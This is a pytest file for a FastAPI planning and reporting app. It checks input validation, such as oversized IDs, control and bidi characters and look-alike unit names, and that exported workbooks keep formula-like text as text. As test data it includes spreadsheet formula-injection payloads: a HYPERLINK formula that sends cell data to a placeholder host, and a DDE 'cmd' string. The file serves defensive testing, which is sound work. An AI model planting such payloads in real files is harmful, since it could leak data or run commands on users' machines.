"""Malformed input gets a clear 4xx and stores nothing, alike on SQLite and PostgreSQL; stored text
(Word's Shift+Enter, formula-like notes) never breaks a report or a template."""

from __future__ import annotations

import io
from collections.abc import Iterator

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import func, select

from builders import PlanBuilder
from tanfeng.db.models import Observation, TaskProgress
from tanfeng.db.session import Database
from tanfeng.services.workspace import list_units
from tanfeng.web import create_app

from .conftest import PASSWORD, Fixture, populate, settings


@pytest.fixture
def web(db_url: str) -> Iterator[tuple[FastAPI, Database, Fixture]]:
    db = Database(db_url)
    fx = populate(db)
    try:
        yield create_app(settings(), db), db, fx
    finally:
        db.dispose()


def _client(app: FastAPI, username: str) -> TestClient:
    client = TestClient(app, follow_redirects=False)
    response = client.post("/api/v1/session", json={"username": username, "password": PASSWORD})
    client.headers["X-CSRF-Token"] = response.json()["csrf_token"]
    return client


def _count(db: Database, model: type) -> int:
    with db.transaction() as session:
        return int(session.scalar(select(func.count()).select_from(model)) or 0)


def _plan_id(client: TestClient) -> int:
    return int(client.get("/api/v1/plans").json()[0]["plan_id"])


def _all_outputs_work(app: FastAPI, db: Database, year: int) -> list[bytes]:
    office = _client(app, "office")
    files = []
    for fmt in ("docx", "xlsx", "html"):
        response = office.post("/api/v1/reports/annual", json={"year": year, "format": fmt})
        assert response.status_code == 200, (fmt, response.text[:300])
        files.append(response.content)
    for unit_id, _name, _region in list_units(db):
        response = office.get("/workspace/template.xlsx", params={"unit_id": unit_id, "period": str(year + 1)})
        assert response.status_code == 200, response.text[:300]
        files.append(response.content)
    return files


def test_word_line_breaks_in_progress_text_leave_reports_and_templates_working(
        web: tuple[FastAPI, Database, Fixture]) -> None:
    app, db, _fx = web
    unit = _client(app, "unit")
    plan_id = _plan_id(unit)
    response = unit.post("/api/v1/progress", json={"plan_id": plan_id, "task": "A1.2", "period": "2023",
                                                   "status": "按计划推进", "text": "完成造林2万亩\x0b新增苗圃3处"})
    assert response.status_code == 201, response.text
    with db.transaction() as session:
        assert session.scalar(select(TaskProgress.text)) == "完成造林2万亩\n新增苗圃3处"
    files = _all_outputs_work(app, db, 2023)
    shown = [k for data in files[3:] for k in _sheets_text_cells(data) if "新增苗圃3处" in k]
    assert shown and all("完成造林2万亩\n新增苗圃3处" in k for k in shown)  # the co-units see it, as a line break


def test_control_characters_already_stored_do_not_break_outputs(web: tuple[FastAPI, Database, Fixture]) -> None:
    """Rows written before validation existed (or by hand) may hold \\x0b and \\x01: outputs still work."""
    app, db, _fx = web
    unit = _client(app, "unit")
    plan_id = _plan_id(unit)
    assert unit.post("/api/v1/progress", json={"plan_id": plan_id, "task": "A1.2", "period": "2023",
                                               "status": "按计划推进", "text": "placeholder"}).status_code == 201
    table = TaskProgress.__table__
    with db.engine.begin() as conn:  # past the ORM check, as an old database or a hand edit would
        row = dict(conn.execute(select(table)).mappings().one())
        row.pop("id")
        row.update(text="第一段\x0b第二段\x01")  # the newest report of the period
        conn.execute(table.insert().values(**row))
    _all_outputs_work(app, db, 2023)


def _sheets_text_cells(data: bytes) -> dict[str, str]:
    wb = load_workbook(io.BytesIO(data))
    return {str(c.value): c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}


def test_formula_like_texts_stay_text_in_every_exported_workbook(web: tuple[FastAPI, Database, Fixture]) -> None:
    app, db, fx = web
    unit = _client(app, "unit")
    plan_id = _plan_id(unit)
    payload = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    assert unit.post("/api/v1/progress", json={"plan_id": plan_id, "task": "A1.2", "period": "2023",
                                               "status": "按计划推进", "text": payload}).status_code == 201
    assert unit.post("/api/v1/observations", json={"values": [
        {"indicator_id": fx.indicator["forest_coverage"], "period": "2023", "value": 81.2,
         "source": "@SUM(1+1)", "note": "+1+cmd|' /C calc'!A0"}]}).status_code == 201
    files = _all_outputs_work(app, db, 2023)
    seen = {}
    for data in files[1:2] + files[3:]:  # the report workbook and every template
        seen.update(_sheets_text_cells(data))
    assert payload in seen or any(payload in k for k in seen)
    formulas = {k: v for k, v in seen.items() if k.startswith(("=", "+", "-", "@"))}
    assert formulas and all(v == "s" for v in formulas.values()), formulas


@pytest.mark.parametrize("path", [
    "/api/v1/indicators/9223372036854775808/series", "/api/v1/indicators/2147483648/history",
    "/api/v1/indicators/-1/series", "/api/v1/audit?limit=-1", "/api/v1/audit?offset=-5",
    "/api/v1/audit?offset=9223372036854775808", "/targets/99999999999999999999", "/audit?page=-3",
    "/workspace/template.xlsx?unit_id=9223372036854775808", "/workspace/template.xlsx?unit_id=424242",
])
def test_impossible_ids_and_limits_are_4xx(web: tuple[FastAPI, Database, Fixture], path: str) -> None:
    app, _db, _fx = web
    response = _client(app, "office").get(path)
    assert 400 <= response.status_code < 500, (path, response.status_code, response.text[:200])


def _bad_values(fx: Fixture) -> list[dict[str, object]]:
    ind = fx.indicator["forest_coverage"]
    return [
        {"indicator_id": 2**63, "period": "2023", "value": 1.0},
        {"indicator_id": 2**31, "period": "2023", "value": 1.0},
        {"indicator_id": ind, "period": "2023", "value": 1e308},
        {"indicator_id": ind, "period": "2023", "value": 81.0, "note": "nul\x00byte"},
        {"indicator_id": ind, "period": "2023", "value": 81.0, "note": "备注" * 20_000},
        {"indicator_id": ind, "period": "2023", "value": 81.0, "source": "来源" * 400},
        {"indicator_id": ind, "period": "2023", "value": 81.0, "note": "方向\u202e覆盖"},
        {"indicator_id": ind, "period": "2023", "value": 81.0, "unit": "%\u200b"},
    ]


def test_malformed_values_are_refused_and_store_nothing(web: tuple[FastAPI, Database, Fixture]) -> None:
    app, db, fx = web
    office = _client(app, "office")
    unit_id = fx.unit_ids["县林业局"]
    for value in _bad_values(fx):
        response = office.post("/api/v1/observations", json={"unit_id": unit_id, "values": [value]})
        assert response.status_code == 422, (value, response.status_code, response.text[:200])
        assert "detail" in response.json()
    for body in ({"unit_id": 2**63, "values": [{"indicator_id": 1, "period": "2023", "value": 1}]},
                 {"unit_id": 2**40, "values": [{"indicator_id": 1, "period": "2023", "value": 1}]}):
        assert 400 <= office.post("/api/v1/observations", json=body).status_code < 500
    plan_id = _plan_id(office)
    assert office.put(f"/api/v1/plans/{plan_id}/targets/T4/quota", json={"value": 1e308}).status_code == 422
    assert _count(db, Observation) == 0
    assert office.get("/").status_code == 200  # the overview still renders for everyone


def test_bad_form_keys_are_4xx(web: tuple[FastAPI, Database, Fixture]) -> None:
    app, db, _fx = web
    unit = _client(app, "unit")
    token = unit.headers["X-CSRF-Token"]
    for form in ({"value.abc": "1", "csrf_token": token}, {"value.99999999999999999999": "1", "csrf_token": token},
                 {"unit_id": "x", "value.1": "1", "csrf_token": token}):
        response = unit.post("/workspace/values", data=form)
        assert 400 <= response.status_code < 500, (form, response.status_code)
    assert _count(db, Observation) == 0


def test_an_impossible_target_year_is_refused_at_import(web: tuple[FastAPI, Database, Fixture]) -> None:
    app, _db, _fx = web
    office = _client(app, "office")
    plan = PlanBuilder().plan().model_dump(mode="json", exclude_none=True)
    plan["targets"][0]["year"] = 20250
    plan["source"]["sha256"] = "0" * 64
    response = office.post("/api/v1/plans", json=plan)
    assert response.status_code == 422 and "2100" in response.json()["detail"], response.text[:300]
    assert office.get("/").status_code == 200


def test_look_alike_unit_names_are_refused(web: tuple[FastAPI, Database, Fixture]) -> None:
    app, _db, _fx = web
    office = _client(app, "office")
    region = office.get("/api/v1/plans").json()[0]["region"]
    for new_name in ("县林业局\u200b", "县\u202e局林业", "县林业局\x00"):
        response = office.post("/api/v1/units/rename", json={"region": region, "unit": "县林业局", "new_name": new_name})
        assert response.status_code == 422, (new_name, response.status_code, response.text[:200])
